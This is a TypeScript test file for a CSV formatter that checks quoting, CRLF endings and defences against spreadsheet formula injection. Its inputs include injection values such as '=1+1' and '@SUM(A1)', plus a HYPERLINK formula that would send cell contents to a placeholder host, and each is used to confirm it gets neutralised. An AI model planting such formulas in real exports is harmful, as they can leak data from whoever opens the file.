import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { formatCsv } from './csv.ts'

test('lines end with CRLF, and only fields that need it are quoted', () => {
	assert.equal(
		formatCsv([
			['a', 'b c', ''],
			['0.000000000000000001', '1,234.5', 'say "no"'],
			['two\nlines', 'and\r\nmore', 'xUSDC'],
		]),
		'a,b c,\r\n0.000000000000000001,"1,234.5","say ""no"""\r\n"two\nlines","and\r\nmore",xUSDC\r\n',
	)
	assert.equal(formatCsv([]), '')
})

// shows decision 76: The page's CSV
test('no field is a formula', () => {
	for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠a'])
		assert.ok(/^"?'/.test(formatCsv([[text]])), JSON.stringify(text))
	assert.equal(formatCsv([['=HYPERLINK("http://a.example?"&A1)']]), `"'=HYPERLINK(""http://a.example?""&A1)"\r\n`)
})

test('a semicolon begins no cell, and no formula', () => {
	assert.equal(formatCsv([['a;b', 'a;=1+1', 'a\t@SUM(A1)', 'a=b']]), `"a;b","a;'=1+1","a\t'@SUM(A1)",a=b\r\n`)
})

test('whatever the fields are, a reader of the standard gets them back, formulas after an apostrophe', () => {
	const field = fc.string({ unit: fc.constantFrom('a', '"', ',', '\r', '\n', '=', ' ', '1', "'") })
	fc.assert(
		fc.property(fc.array(fc.array(field, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), rows => {
			const wanted = rows.map(row => row.map(text => (/^[=\r\n]/.test(text) ? `'${text}` : text)))
			assert.deepEqual(readCsv(formatCsv(rows)), wanted)
		}),
	)
})

/** Reads CSV by the grammar of RFC 4180. */
function readCsv(text: string): string[][] {
	const rows: string[][] = []
	let row: string[] = []
	let rest = text
	while (rest !== '') {
		const quoted = /^"((?:[^"]|"")*)"/.exec(rest)
		const [taken = '', inside] = quoted ?? /^[^",\r\n]*/.exec(rest) ?? []
		row.push(inside === undefined ? taken : inside.replaceAll('""', '"'))
		rest = rest.slice(taken.length)
		if (rest.startsWith(',')) {
			// One more field, even at the end of the line.
			rest = rest.slice(1)
			continue
		}
		assert.ok(rest.startsWith('\r\n'), JSON.stringify(rest))
		rows.push(row)
		row = []
		rest = rest.slice(2)
	}
	return rows
}
